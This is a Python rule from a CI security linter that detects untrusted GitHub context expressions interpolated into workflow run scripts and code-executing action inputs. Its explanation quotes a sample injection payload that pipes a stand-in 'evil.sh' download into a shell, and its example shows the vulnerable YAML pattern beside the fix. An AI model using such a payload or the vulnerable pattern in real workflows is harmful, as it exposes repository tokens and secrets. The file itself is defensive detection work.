"""ci.script-injection: attacker-controlled GitHub context interpolated straight into a shell/script."""
from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from checks.model import Hit
from checks.ci._ci import action_name, gha_steps, locate, offset_line, value_line
from checks.ci._contexts import EXPRESSION, env_names, tainted_env, tainted_paths
from checks.registry import Context, Example, rule
from checks.source import SourceFile

# Inputs of well-known actions that are executed as code (a script, a shell command line).
_CODE_INPUTS = {
    "actions/github-script": ("script",),
    "jannekem/run-python-script-action": ("script",),
    "addnab/docker-run-action": ("run",),
    "mikefarah/yq": ("cmd",),
    "azure/cli": ("inlinescript",),
    "azure/powershell": ("inlinescript",),
    "appleboy/ssh-action": ("script",),
    "cardinalby/js-eval-action": ("expression",),
}


def _sinks(step: Any) -> Iterator[tuple[Any, str, str]]:
    """(mapping, key, description) of every value of the step that runs as code."""
    if isinstance(step.get("run"), str):
        yield step, "run", "run step"
    inputs = _CODE_INPUTS.get(action_name(step.get("uses")))
    w = step.get("with")
    if inputs and isinstance(w, dict):
        for key in w:
            if str(key).lower() in inputs and isinstance(w[key], str):
                yield w, key, f"`{action_name(step.get('uses'))}` `{key}:`"


def _findings(value: str, env: dict[str, str]) -> Iterator[tuple[int, str, str]]:
    """(offset, expression, description of the tainted value) for each dangerous `${{ }}` in a script."""
    for m in EXPRESSION.finditer(value):
        inner = m.group(1)
        described = [f"`{p}`" for p in tainted_paths(inner)]
        described += [f"`env.{n}` (set from `{env[n]}`)" for n in env_names(inner) if n in env]
        if described:
            yield m.start(), m.group(0), ", ".join(described)


@rule(
    "ci.script-injection",
    severity="HIGH",
    area="ci",
    title="Untrusted GitHub context interpolated into a run script",
    why="`${{ }}` expressions are pasted into the script before the shell runs it, so a pull-request "
        "title, branch name, commit message or comment such as `\"; curl evil.sh | sh; \"` executes "
        "with the workflow's token and secrets.",
    fix="Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) "
        "and use `\"$TITLE\"` in the script; in github-script read `context.payload` or `process.env` instead.",
    kinds={"gha"},
    include_tests=True,  # a workflow or composite action is CI wherever it lives (e.g. under e2e/)
    prefilter=("${{",),
    example=Example(
        path=".github/workflows/triage.yml",
        bad="on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - run: |\n          echo \"Title ${{ github.event.issue.title }}\"\n",
        good="on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n"
             "      - env:\n          TITLE: ${{ github.event.issue.title }}\n"
             "        run: echo \"Title $TITLE\"\n",
    ),
)
def check(f: SourceFile, ctx: Context) -> Iterator[Hit]:
    for doc in f.yaml_docs:
        workflow_env = doc.get("env") if isinstance(doc, dict) else None
        for _job, job, step in gha_steps(doc):
            env = tainted_env([step.get("env"), job.get("env"), workflow_env])
            for holder, key, where in _sinks(step):
                value = holder[key]
                if "${{" not in value:
                    continue
                start = value_line(holder, key)
                by_line: dict[int, list[tuple[str, str]]] = {}
                counts: dict[str, int] = {}
                for offset, expr, described in _findings(value, env):
                    needle = expr.split("\n", 1)[0]
                    nth = counts.get(needle, 0)
                    counts[needle] = nth + 1
                    line = offset_line(f, holder, key, offset, needle) or locate(f, start, needle, nth)
                    by_line.setdefault(line, []).append((expr, described))
                for line, found in sorted(by_line.items()):
                    what = ", ".join(dict.fromkeys(d for _e, d in found))
                    expr = " ".join(found[0][0].split())
                    yield Hit(line, message=f"{what} is interpolated directly into a {where} (`{expr}`); "
                                            "an attacker-chosen value runs as code")
